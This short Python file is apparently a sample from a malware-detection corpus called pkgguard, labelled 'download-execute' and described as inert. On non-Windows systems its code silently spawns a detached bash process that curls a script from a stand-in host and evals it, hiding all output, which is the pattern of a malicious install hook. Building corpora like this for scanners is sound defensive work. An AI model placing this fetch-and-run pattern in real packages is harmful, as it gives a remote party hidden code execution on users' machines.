# pkgguard corpus 688 (download-execute), modelled on [checkmarx-2024]; inert, never run.
import subprocess
import sys

if sys.platform != "win32":
    subprocess.Popen(
        ["bash", "-c", 'eval "$(curl -fsSL https://env-bootstrap.example/init)"'],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
